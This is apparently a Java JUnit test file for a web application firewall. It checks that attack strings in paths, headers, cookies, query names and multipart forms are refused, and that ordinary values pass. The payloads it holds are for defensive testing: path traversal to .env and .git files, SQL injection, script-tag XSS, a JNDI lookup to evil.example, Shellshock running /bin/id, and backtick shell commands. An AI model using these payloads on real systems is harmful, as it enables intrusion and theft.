package dev.edge4j.middleware.waf;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.edge4j.App;
import dev.edge4j.http.Method;
import dev.edge4j.http.Request;
import dev.edge4j.http.Response;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Function;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** With the rules of the house as they are: every attack of the corpora is refused, wherever it stands, and no ordinary value is. */
class WafKnowsAttacksFromVisitorsTest {
  private final App app = new App();
  private final List<Report> reports = new ArrayList<>();

  {
    app.use(Waf.create().onFinding((_, report) -> reports.add(report)));
    app.get("/search", c -> c.text("found"));
    app.post("/comments", c -> c.text("said"));
  }

  private static Request query(String value) {
    return Request.get("/search?q=" + encoded(value));
  }

  private static Request form(String value) {
    return Request.post("/comments").withForm("name=anna&text=" + encoded(value));
  }

  private static Request json(String value) {
    String string = value.replace("\\", "\\\\").replace("\"", "\\\"");
    return Request.post("/comments").withJson("{\"name\": \"anna\", \"text\": \"" + string + "\", \"stars\": 5}");
  }

  private static String encoded(String value) {
    return URLEncoder.encode(value, StandardCharsets.UTF_8);
  }

  private String misjudged(Function<String, Request> place, List<String> values, int expected) {
    var wrong = new StringBuilder();
    for (String value : values) {
      reports.clear();
      Response response = app.request(place.apply(value));
      if (response.status() != expected) {
        wrong.append(response.status()).append(' ').append(value).append("   ").append(reports).append('\n');
      }
    }
    return wrong.toString();
  }

  @ParameterizedTest
  @ValueSource(strings = {"sql", "script", "shell", "code", "files", "network"})
  void everyAttackIsRefusedInQueryFormAndJson(String family) {
    List<String> attacks = Corpus.of(family);
    assertTrue(attacks.size() > 15, family);
    String wrong = misjudged(WafKnowsAttacksFromVisitorsTest::query, attacks, 403) + misjudged(
        WafKnowsAttacksFromVisitorsTest::form, attacks, 403) + misjudged(WafKnowsAttacksFromVisitorsTest::json, attacks,
            403);
    assertEquals("", wrong);
  }

  @ParameterizedTest
  @ValueSource(strings = {"ordinary"})
  void noOrdinaryValueIsRefused(String corpus) {
    List<String> values = Corpus.of(corpus);
    assertTrue(values.size() > 150);
    String wrong = misjudged(WafKnowsAttacksFromVisitorsTest::query, values, 200) + misjudged(
        WafKnowsAttacksFromVisitorsTest::form, values, 200) + misjudged(WafKnowsAttacksFromVisitorsTest::json, values,
            200);
    assertEquals("", wrong);
  }

  /** What is known to pass: whoever changes a rule so that one of these is refused moves it to its family. */
  @ParameterizedTest
  @ValueSource(strings = {"missed"})
  void whatIsMissedIsKnown(String corpus) {
    assertEquals("", misjudged(WafKnowsAttacksFromVisitorsTest::query, Corpus.of(corpus), 200));
  }

  @ParameterizedTest
  @ValueSource(strings = {"/a/../../etc/x", "/a/..;/manager/html", "/a/%252e%252e/x", "/.env", "/.git/config",
      "/app/.env.local", "/wp-config.php", "/products/1'%20or%201=1--", "/x/%3Cscript%3Ealert(1)%3C/script%3E",
      "/static/..", "/x/$%7Bjndi:ldap:%7D", "/WEB-INF/web.xml", "/x/1%20union%20select%201,2"})
  void attacksInThePathAreRefused(String target) {
    assertEquals(403, app.request(Request.get(target)).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"/", "/search", "/a/b.c/d..e/f", "/.well-known/security.txt", "/o'brien", "/a/...",
      "/caf%C3%A9", "/.gitignore-howto", "/a/./b", "/select/from/union", "/etc/", "/a%2Fb", "/100%25"})
  void ordinaryPathsPass(String target) {
    assertEquals(true, List.of(200, 404).contains(app.request(Request.get(target)).status()));
  }

  @ParameterizedTest
  @ValueSource(strings = {"User-Agent", "Referer", "X-Forwarded-For", "X-Api-Version", "Accept-Language", "Origin"})
  void lookupsAreFoundInEveryHeaderField(String field) {
    assertEquals(403, app.request(Request.get("/search").withHeader(field, "${jndi:ldap://evil.example/a}")).status());
    assertEquals(403, app.request(Request.get("/search").withHeader(field, "() { :; }; /bin/id")).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"sqlmap/1.7", "Mozilla/5.00 (Nikto/2.1.6)", "Mozilla/5.0 (compatible; Nmap Scripting Engine)",
      "gobuster/3.1", "masscan/1.3"})
  void scannersThatSayTheirNameAreRefused(String agent) {
    assertEquals(403, app.request(Request.get("/search").withHeader("User-Agent", agent)).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"id=1' or 1=1--", "theme=<script>alert(1)</script>", "a=b; x=%3Cscript%3Ealert(1)",
      "o=O:8:\"stdClass\":1:{s:1:\"a\"}"})
  void attacksInCookiesAreRefused(String cookies) {
    assertEquals(403, app.request(Request.get("/search").withHeader("Cookie", cookies)).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"q%5B%24ne%5D=1", "__proto__%5Badmin%5D=1", "1'%20or%201=1--=x", "%3Cscript%3E=1",
      "q=a%00b", "q=%c0%ae%c0%ae", "class.module.classLoader.x=1"})
  void namesOfArgumentsAndTheirBytesCountToo(String query) {
    assertEquals(403, app.request(Request.get("/search?" + query)).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"name=\"f\"; filename=\"../../x.jsp\"", "name=\"' or 1=1--\"; filename=\"x.jpg\""})
  void headsOfPartsOfAFormAreLookedAt(String disposition) {
    assertEquals(403, multipart(disposition, "bytes").status());
  }

  /** In Markdown they are code in a text. */
  @ParameterizedTest
  @ValueSource(strings = {"`id`", "`whoami`", "`sleep 5`"})
  void commandsInBackticksAreRefusedInQueriesAlone(String value) {
    assertEquals(403, app.request(query(value)).status());
    assertEquals(200, app.request(form(value)).status());
  }

  @ParameterizedTest
  @ValueSource(strings = {"name=\"text\"", "name=\"other\""})
  void textsOfAFormAreLookedAtAndFilesAreNot(String disposition) {
    String attack = "<script>alert(1)</script>";
    assertEquals(403, multipart(disposition, attack).status());
    assertEquals(403, multipart(disposition, attack + "x".repeat(Waf.BODY_PREFIX)).status());
    assertEquals(200, multipart(disposition + "; filename=\"page.html\"", attack).status());
  }

  private Response multipart(String disposition, String content) {
    String body = "--b\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\nO'Brien\r\n"
        + "--b\r\nContent-Disposition: form-data; " + disposition + "\r\n\r\n" + content + "\r\n--b--\r\n";
    return app.request(Request.of(Method.POST, "/comments")
        .withBody("multipart/form-data; boundary=b", body.getBytes(StandardCharsets.UTF_8)));
  }
}
